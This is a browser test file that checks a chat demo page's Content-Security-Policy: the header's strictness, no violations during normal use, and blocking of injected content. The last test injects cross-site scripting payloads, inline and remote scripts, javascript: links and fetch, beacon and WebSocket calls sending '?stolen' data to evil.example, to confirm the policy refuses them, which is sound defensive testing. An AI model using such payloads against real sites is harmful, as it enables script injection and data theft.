// The demo page as `make run` serves it: what its Content-Security-Policy says,
// that nothing in the page's use goes against it, and that it holds.
import assert from "node:assert/strict";
import { execFile, spawn } from "node:child_process";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, afterEach, before, describe, test } from "node:test";
import { promisify } from "node:util";
import { launch, noFaults, options, watch } from "./browser.mjs";
import { reload, row, rowNames, settled } from "./demo.mjs";
import { policy } from "./server.mjs";

const root = new URL("..", import.meta.url).pathname;

describe("the page's policy", options, () => {
  let chrome, context, server, origin, dir;

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), "timconv-serve-"));
    const serve = join(dir, "serve");
    await promisify(execFile)(process.env.GO ?? "go", ["build", "-o", serve, "./internal/serve"], { cwd: root });
    server = spawn(serve, { cwd: root, env: { ...process.env, PORT: "0" }, stdio: ["ignore", "pipe", "inherit"] });
    origin = await new Promise((resolve, reject) => {
      let said = "";
      server.once("exit", () => reject(new Error(`it has ended: ${said}`)));
      server.stdout.on("data", (text) => {
        said += text;
        const found = said.match(/(http:\/\/127\.0\.0\.1:\d+)\//);
        if (found !== null) resolve(found[1]);
      });
    });
    chrome = await launch();
  });
  after(async () => {
    await chrome?.close();
    server?.kill();
    await rm(dir, { recursive: true, force: true });
  });
  afterEach(async () => {
    await context?.close();
  });

  /** open opens the demo, in which violations are kept. */
  async function open(address = "/", { quiet = true } = {}) {
    context ??= await chrome.browser.newContext({ viewport: { width: 1280, height: 800 } });
    const page = quiet ? watch(await context.newPage()) : await context.newPage();
    await page.addInitScript(() => {
      window.violations = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) => {
        window.violations.push(`${effectiveDirective} ${blockedURI} ${sample}`);
      });
    });
    await page.goto(`${origin}${address}`);
    await settled(page);
    return page;
  }

  test("is strict, and asks for no isolation", async () => {
    const page = await open();
    const response = await fetch(origin);
    const headers = Object.fromEntries(response.headers);
    assert.equal(headers["content-security-policy"], policy);
    assert.match(policy, /script-src 'self' 'wasm-unsafe-eval';/);
    assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|nonce|\*/);
    assert.deepEqual(Object.keys(headers).filter((name) => name.startsWith("cross-origin-")), []);
    assert.equal(await page.evaluate(() => globalThis.crossOriginIsolated), false);
    const html = await response.text();
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|<style|\sstyle=|\son[a-z]+=|javascript:/i);
    await page.waitForFunction(() => TIM.status.state === "ready");
    noFaults();
    context = await context.close();
  });

  test("is not gone against by anything the page does", async () => {
    const page = await open("/?user=ann");
    await page.waitForSelector(".row-item");
    await page.waitForFunction(() => document.getElementById("live").checked);
    await page.locator(".live").first().click();
    const name = (await rowNames(page))[3];
    await row(page, name).click();
    for (const id of ["pin", "mark-star", "mark-unread", "mark-fold", "mark-fold"]) await page.click(`#${id}`);
    await page.fill("#draft", "a draft");
    await page.locator("#draft-state", { hasText: "Draft saved" }).waitFor();
    await page.press("#draft", "Enter");
    await page.locator(".message.own").last().locator(".state.sent").waitFor();
    await page.locator(".message.own").last().locator(".bubble").click({ button: "right" });
    await page.waitForSelector("#message-menu:popover-open");
    await page.keyboard.press("Escape");
    await page.locator("#facts-box summary").click();
    await page.waitForFunction(() => document.getElementById("raw").textContent.length > 50);
    for (const filter of ["unread", "me", "single", "group", "star", "all"]) await page.locator(`.filters input[value=${filter}]`).check({ force: true });
    await page.click("#group-new");
    await page.fill("#group-name", "friends");
    await page.click("#group-create-yes");
    await page.locator(".tab", { hasText: "friends" }).waitFor();
    await page.locator(".tab").first().click();
    await page.click("#create-open");
    await page.fill("#create-id", "zoe");
    await page.click("#create-yes");
    await page.locator("#detail-name", { hasText: "zoe" }).waitFor();
    await page.locator("#offline + .switch").click();
    await page.locator("#offline + .switch").click();
    await page.click("#delete");
    await page.click("#confirm-yes");
    await page.click("#feed-open");
    await page.locator("[data-sample=document]").last().click();
    await page.fill("#feed-text", JSON.stringify([{ message_sender: "eve", message_elem_array: [{ elem_type: 0, text_elem_content: "hi" }],
      message_sender_profile: { user_profile_face_url: "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEAAAAALAAAAAABAAEAAAIBAAA=" } }]));
    await page.click("#feed-send");
    await row(page, "eve").locator("img").waitFor();
    await page.click("#feed-close");
    await page.evaluate(() => document.getElementById("list").scrollBy(0, 2000));
    const second = await open("/?user=bob");
    await second.close();
    await reload(page);
    await page.click("#account-open");
    await page.click("#account-out");
    await page.waitForFunction(() => TIM.loginUserID === "");
    assert.deepEqual(await page.evaluate(() => window.violations), []);
    noFaults();
    context = await context.close();
  });

  test("refuses what an injection would run or load", async () => {
    const page = await open("/", { quiet: false });
    // What was asked of others, and was not refused by the policy before it left. Firefox
    // tells of a WebSocket that it refuses as of one that was given up.
    const outside = [];
    page.on("requestfinished", (request) => { if (!request.url().startsWith(origin)) outside.push(request.url()); });
    page.on("requestfailed", (request) => { if (!["csp", "NS_BINDING_ABORTED"].includes(request.failure().errorText)) outside.push(`${request.url()} ${request.failure().errorText}`); });
    await page.evaluate(() => {
      const add = (name, properties, text = "") => {
        const node = Object.assign(document.createElement(name), properties);
        node.textContent = text;
        document.body.append(node);
        return node;
      };
      add("script", {}, "window.pwned = 'inline'");
      add("script", { src: "data:text/javascript,window.pwned='data'" });
      add("script", { src: "https://evil.example/a.js" });
      add("script", { type: "module" }, "window.pwned = 'module'");
      add("style", {}, "body { display: none }");
      add("link", { rel: "stylesheet", href: "https://evil.example/a.css" });
      add("iframe", { src: "https://evil.example/" });
      add("object", { data: "https://evil.example/" });
      add("base", { href: "https://evil.example/" });
      add("img", { src: "http://evil.example/a.png" });
      const box = add("div", {});
      box.innerHTML = `<p style="color: red">x</p><b onclick="window.pwned = 'handler'">x</b><a href="javascript:window.pwned='address'">x</a>`;
      box.querySelector("b").click();
      box.querySelector("a").click();
      setTimeout("window.pwned = 'text'", 0);
      fetch("https://evil.example/?stolen").catch(() => {});
      navigator.sendBeacon("https://evil.example/?stolen", "x");
      new WebSocket("wss://evil.example/").onerror = () => {};
    }).catch(() => {});
    await page.waitForTimeout(500);
    const { pwned, violations, base } = await page.evaluate(() => ({ pwned: window.pwned, violations: window.violations, base: document.baseURI }));
    assert.equal(pwned, undefined);
    assert.equal(base.startsWith(origin), true);
    assert.deepEqual(outside, []);
    const directives = new Set(violations.map((text) => text.split(" ")[0]));
    for (const directive of ["script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "connect-src", "frame-src", "object-src", "base-uri", "img-src"]) {
      assert.ok(directives.has(directive), `${directive}: ${violations.join("\n")}`);
    }
  });
});
